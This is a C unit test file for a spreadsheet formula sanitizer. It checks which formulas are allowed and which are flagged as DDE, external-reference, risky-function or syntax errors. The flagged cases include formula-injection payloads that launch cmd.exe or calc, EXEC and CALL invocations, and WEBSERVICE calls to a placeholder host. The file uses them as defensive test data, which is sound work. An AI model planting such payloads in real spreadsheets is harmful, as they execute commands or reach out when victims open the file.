/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "../../../sanitizer/formula.h"

struct row {
	const char *text;
	enum formula_verdict verdict;
	const char *what;		/* NULL: not looked at */
};

static void
check(const struct row *rows, size_t n)
{
	struct formula_result result;

	for (size_t i = 0; i < n; i++) {
		enum formula_verdict verdict = formula_check(span_str(
		    rows[i].text), &result);

		if (verdict != rows[i].verdict)
			fail_msg("%s: %d, expected %d", rows[i].text,
			    (int)verdict, (int)rows[i].verdict);
		assert_int_equal(result.verdict, verdict);
		if (rows[i].what != NULL)
			assert_true(span_equal(result.what,
			    span_str(rows[i].what)));
	}
}
#define CHECK(rows) check(rows, sizeof(rows) / sizeof(rows[0]))

static void
what_reads_cells_stays(void **state)
{
	static const struct row rows[] = {
		{ "", FORMULA_FINE, NULL },
		{ "SUM(A1:B2)", FORMULA_FINE, NULL },
		{ "sum($A$1:$B$2)*1.08", FORMULA_FINE, NULL },
		{ "IF(A1>=10,\"多い|![1]\",\"\")", FORMULA_FINE, NULL },
		{ "\"a\"\"|\"\"b\"&C3", FORMULA_FINE, NULL },
		{ "Sheet2!A1+'令和 6年度'!B2", FORMULA_FINE, NULL },
		{ "'It''s'!A1", FORMULA_FINE, NULL },
		{ "集計!$C$4", FORMULA_FINE, NULL },
		{ "SUM(Sheet1:Sheet3!A1)", FORMULA_FINE, NULL },
		{ "SUM('一月:三月'!A1)", FORMULA_FINE, NULL },
		{ "SUM(Table1[金額])", FORMULA_FINE, NULL },
		{ "Table1[[#This Row],[a'[b']]]", FORMULA_FINE, NULL },
		{ "[@数量]*[@単価]", FORMULA_FINE, NULL },
		{ "_xlfn.XLOOKUP(A1,B:B,C:C)", FORMULA_FINE, NULL },
		{ "_xlfn._xlws.FILTER(A1:B9,A1:A9>1)", FORMULA_FINE, NULL },
		{ "IFERROR(#REF!,#N/A)", FORMULA_FINE, NULL },
		{ "#REF!A1", FORMULA_FINE, NULL },
		{ "SUM({1,2;3,4})", FORMULA_FINE, NULL },
		{ "A1#", FORMULA_FINE, NULL },
		{ "@A1:A3", FORMULA_FINE, NULL },
		{ "VLOOKUP(A1,名簿,2,FALSE)", FORMULA_FINE, NULL },
		{ "DATEDIF(A1,TODAY(),\"Y\")", FORMULA_FINE, NULL },
		{ "HYPERLINK(\"https://www.example.lg.jp/\",\"x\")",
		    FORMULA_FINE, NULL },
		{ "HYPERLINK( \"#Sheet2!A1\" , \"x\")", FORMULA_FINE, NULL },
		{ "CELL(\"row\",A1)", FORMULA_FINE, NULL },
		{ "1.5E+10%", FORMULA_FINE, NULL },
	};

	(void)state;
	CHECK(rows);
}

static void
what_reaches_out_goes(void **state)
{
	static const struct row rows[] = {
		{ "cmd|' /C calc'!A0", FORMULA_DDE, "cmd" },
		{ "MSEXCEL|'\\..\\..\\cmd.exe'!''", FORMULA_DDE, "MSEXCEL" },
		{ "1+'cmd'|'/c calc'!A1", FORMULA_DDE, NULL },
		{ "'cmd|x'!A1", FORMULA_DDE, NULL },
		{ "A1|B1", FORMULA_DDE, NULL },
		{ " |x", FORMULA_DDE, NULL },
		{ "[1]Sheet1!A1", FORMULA_EXTERNAL, NULL },
		{ "SUM([1]!Name)", FORMULA_EXTERNAL, NULL },
		{ "'[1]Sheet 1'!A1", FORMULA_EXTERNAL, NULL },
		{ "'C:\\x\\[b.xls]S'!A1", FORMULA_EXTERNAL, NULL },
		{ "'\\\\host\\share\\x'!A1", FORMULA_EXTERNAL, NULL },
		{ "'http://e.example/[b.xlsx]S'!A1", FORMULA_EXTERNAL, NULL },
		{ "[b.xlsx]Sheet1!A1", FORMULA_EXTERNAL, NULL },
		{ "WEBSERVICE(\"http://e.example\")", FORMULA_FUNCTION,
		    "WEBSERVICE" },
		{ "_xlfn.WEBSERVICE(A1)", FORMULA_FUNCTION,
		    "_xlfn.WEBSERVICE" },
		{ "_xll.EVIL()", FORMULA_FUNCTION, "_xll.EVIL" },
		{ "EXEC(\"calc\")", FORMULA_FUNCTION, "EXEC" },
		{ "1+call(\"k\",\"W\",\"J\")", FORMULA_FUNCTION, "call" },
		{ "REGISTER.ID(A1)", FORMULA_FUNCTION, NULL },
		{ "RTD(\"x\",,\"y\")", FORMULA_FUNCTION, NULL },
		{ "Macro1!RUN()", FORMULA_FUNCTION, "RUN" },
		{ "Macro1!SUM(A1)", FORMULA_FUNCTION, "SUM" },
		{ "HYPERLINK(A1)", FORMULA_FUNCTION, NULL },
		{ "HYPERLINK(\"file://x\")", FORMULA_FUNCTION, NULL },
		{ "HYPERLINK(\"http://x/\"&A1)", FORMULA_FUNCTION, NULL },
		{ "CELL(\"filename\")", FORMULA_FUNCTION, NULL },
		{ "CELL(A1)", FORMULA_FUNCTION, NULL },
		{ "INFO(\"directory\")", FORMULA_FUNCTION, NULL },
		{ "CUBEVALUE(\"c\")", FORMULA_FUNCTION, NULL },
		{ "IMAGE(\"http://x/\")", FORMULA_FUNCTION, NULL },
		{ "関数(A1)", FORMULA_FUNCTION, NULL },
	};

	(void)state;
	CHECK(rows);
}

static void
what_is_not_understood_goes(void **state)
{
	static const struct row rows[] = {
		{ "\"no end", FORMULA_SYNTAX, NULL },
		{ "'no end", FORMULA_SYNTAX, NULL },
		{ "'sheet'A1", FORMULA_SYNTAX, NULL },
		{ "Table1[a", FORMULA_SYNTAX, NULL },
		{ "T[1]S!A1", FORMULA_SYNTAX, NULL },
		{ "0.[1]'S'!A1", FORMULA_SYNTAX, NULL },
		{ "Table1[[[[[[[[[[a", FORMULA_SYNTAX, NULL },
		{ "A1\\B1", FORMULA_SYNTAX, NULL },
		{ "a!b!c", FORMULA_SYNTAX, NULL },
		{ "!A1", FORMULA_SYNTAX, NULL },
		{ "A1`", FORMULA_SYNTAX, NULL },
		{ "A1\x01", FORMULA_SYNTAX, NULL },
	};
	static char much[FORMULA_BYTES_MAX + 1];
	struct formula_result result;

	(void)state;
	CHECK(rows);
	for (size_t i = 0; i < sizeof(much); i++)
		much[i] = '1';
	assert_int_equal(formula_check((struct span){ (const uint8_t *)much,
	    sizeof(much) }, &result), FORMULA_SYNTAX);
	assert_int_equal(formula_check((struct span){ (const uint8_t *)much,
	    sizeof(much) - 1 }, &result), FORMULA_FINE);
	assert_int_equal(formula_check((struct span){
	    (const uint8_t *)"A1\0|", 4 }, &result), FORMULA_SYNTAX);
}

static void
the_list_is_found_by_name(void **state)
{
	(void)state;
	assert_true(formula_function_is_known(SPAN("ABS")));
	assert_true(formula_function_is_known(SPAN("z.test")));
	assert_true(formula_function_is_known(SPAN("ZTEST")));
	assert_false(formula_function_is_known(SPAN("")));
	assert_false(formula_function_is_known(SPAN("ABSS")));
	assert_false(formula_function_is_known(SPAN("EVALUATE")));
	assert_false(formula_function_is_known(SPAN(
	    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	    )));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_reads_cells_stays),
		cmocka_unit_test(what_reaches_out_goes),
		cmocka_unit_test(what_is_not_understood_goes),
		cmocka_unit_test(the_list_is_found_by_name),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
